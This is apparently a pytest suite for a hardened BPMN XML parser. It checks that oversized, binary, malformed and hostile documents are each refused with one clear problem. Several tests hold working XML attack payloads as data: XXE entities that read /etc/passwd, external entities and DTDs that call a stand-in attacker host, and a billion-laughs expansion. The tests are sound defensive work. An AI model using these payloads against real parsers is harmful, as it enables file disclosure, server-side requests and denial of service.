"""Hostile and broken documents are refused quickly, with one clear problem each."""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

import pytest
from lxml import etree

from safepoint.errors import BpmnParseError, Problem
from safepoint.parser import DEFAULT_MAX_BYTES, parse_definitions
from safepoint.parser.xml import hardened_parser

FIXTURES = Path(__file__).parents[2] / "fixtures" / "bpmn"
INVOICE = (FIXTURES / "invoice.bpmn").read_bytes()
BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"


def refused(xml: bytes, **kwargs: int) -> Problem:
    """The single problem a hostile document is refused with."""
    with pytest.raises(BpmnParseError) as caught:
        parse_definitions(xml, resource_name="hostile.bpmn", **kwargs)
    assert len(caught.value.problems) == 1, caught.value.problems
    problem = caught.value.problems[0]
    assert problem.resource_name == "hostile.bpmn"
    return problem


def test_xxe_with_a_file_entity_is_refused_and_reads_nothing() -> None:
    xml = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE definitions [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        b'<bpmn:definitions xmlns:bpmn="' + BPMN_NS.encode() + b'">\n'
        b'  <bpmn:process id="p" isExecutable="true" name="&xxe;"/>\n'
        b"</bpmn:definitions>\n"
    )
    problem = refused(xml)
    assert problem.message == "DOCTYPE declarations are not allowed"
    assert problem.line == 2
    assert "root:" not in str(problem)


def test_xxe_with_an_external_parameter_entity_on_the_network_is_refused() -> None:
    xml = (
        b'<?xml version="1.0"?>\n'
        b"<!DOCTYPE definitions [\n"
        b'  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n'
        b"  %remote;\n"
        b"]>\n"
        b'<bpmn:definitions xmlns:bpmn="' + BPMN_NS.encode() + b'"/>\n'
    )
    problem = refused(xml)
    assert problem.message == "DOCTYPE declarations are not allowed"
    assert problem.line == 2


def test_an_external_dtd_after_comments_and_instructions_is_refused() -> None:
    xml = (
        b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- a comment -->\n<?pi data?>\n"
        b'<!DOCTYPE definitions SYSTEM "http://attacker.invalid/bpmn.dtd">\n'
        b'<bpmn:definitions xmlns:bpmn="' + BPMN_NS.encode() + b'"/>\n'
    )
    problem = refused(xml)
    assert (problem.message, problem.line) == ("DOCTYPE declarations are not allowed", 4)


def test_billion_laughs_is_refused_fast_with_bounded_memory() -> None:
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [
        b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
    ]
    xml = (
        b'<?xml version="1.0"?>\n<!DOCTYPE definitions [\n'
        + b"\n".join(entities)
        + b'\n]>\n<bpmn:definitions xmlns:bpmn="'
        + BPMN_NS.encode()
        + b'">&lol9;</bpmn:definitions>\n'
    )
    tracemalloc.start()
    started = time.perf_counter()
    try:
        problem = refused(xml)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert problem.message == "DOCTYPE declarations are not allowed"
    assert elapsed < 0.5
    assert peak < 1_000_000


def test_a_doctype_alone_is_refused() -> None:
    problem = refused(b"<!DOCTYPE html>")
    assert (problem.message, problem.line) == ("DOCTYPE declarations are not allowed", 1)


def test_the_hardened_parser_expands_no_entity_even_when_given_a_dtd() -> None:
    xml = b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    root = etree.fromstring(xml, hardened_parser())
    assert etree.tostring(root) == b"<a>&e;</a>"  # the reference stays a reference


def test_a_50_megabyte_document_is_refused_before_parsing() -> None:
    xml = b"<" * (50 * 1024 * 1024)
    started = time.perf_counter()
    problem = refused(xml)
    assert time.perf_counter() - started < 0.5
    assert problem.message == "the document is 52,428,800 bytes; the limit is 10,485,760"
    assert problem.line is None
    assert DEFAULT_MAX_BYTES == 10 * 1024 * 1024


def test_the_size_limit_can_be_lowered() -> None:
    problem = refused(INVOICE, max_bytes=1000)
    assert problem.message == f"the document is {len(INVOICE):,} bytes; the limit is 1,000"


def test_binary_garbage_is_refused_as_not_utf8() -> None:
    problem = refused(b"GIF89a\n\x01\x00\x01\x00\x80\xff\xfe")
    assert problem.message.startswith("the document is not UTF-8 text")
    assert problem.line == 2


def test_binary_garbage_that_happens_to_be_utf8_is_refused_as_binary() -> None:
    problem = refused(b"PK\x03\x04\x14\x00\x06\x00")
    assert problem.message.startswith("the document is binary, not XML")
    assert problem.line == 1


def test_a_latin1_document_is_refused_with_the_offending_line() -> None:
    xml = INVOICE.replace(b'name="Invoice"', 'name="Facture reçue"'.encode("latin-1"))
    problem = refused(xml)
    assert problem.message.startswith("the document is not UTF-8 text: invalid byte 0xe7")
    assert problem.line == 3


def test_utf16_is_refused() -> None:
    problem = refused(INVOICE.decode().replace("UTF-8", "UTF-16").encode("utf-16"))
    assert problem.message.startswith("the document is not UTF-8 text")


@pytest.mark.parametrize("xml", [b"", b"  \n\t "], ids=["empty", "white space"])
def test_an_empty_document_is_refused(xml: bytes) -> None:
    assert refused(xml).message == "the document is empty"


def test_truncated_xml_is_refused_with_lxml_line() -> None:
    cut = INVOICE.index(b'<bpmn:userTask id="Task_ApproveInvoice"')
    problem = refused(INVOICE[:cut])
    assert problem.message.startswith("the document is not well-formed XML: ")
    assert problem.line == INVOICE[:cut].count(b"\n") + 1


def test_mismatched_tags_are_refused_with_line_and_column() -> None:
    xml = (
        b'<bpmn:definitions xmlns:bpmn="' + BPMN_NS.encode() + b'">\n  <a></b>\n</bpmn:definitions>'
    )
    problem = refused(xml)
    assert problem.message.startswith("the document is not well-formed XML: ")
    assert "mismatch" in problem.message
    assert (problem.line, problem.column) == (2, 10)


def test_an_undefined_entity_is_refused() -> None:
    xml = b'<bpmn:definitions xmlns:bpmn="' + BPMN_NS.encode() + b'">&secret;</bpmn:definitions>'
    problem = refused(xml)
    assert problem.message == "the document is not well-formed XML: Entity 'secret' not defined"


@pytest.mark.parametrize(
    "xml",
    [
        b"<definitions/>",
        b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/DI"/>',
        b'<bpmn:process xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>',
    ],
    ids=["no namespace", "wrong namespace", "not definitions"],
)
def test_a_root_other_than_bpmn_definitions_is_refused(xml: bytes) -> None:
    problem = refused(xml)
    assert problem.message.startswith("the root element is ")
    assert problem.line == 1


def test_doctype_text_inside_documentation_is_not_a_doctype() -> None:
    xml = INVOICE.replace(
        b"<bpmn:documentation>",
        b"<bpmn:documentation><![CDATA[<!DOCTYPE html> is only text here]]>",
    )
    definitions = parse_definitions(xml)
    assert definitions.process("invoice").name == "Invoice"
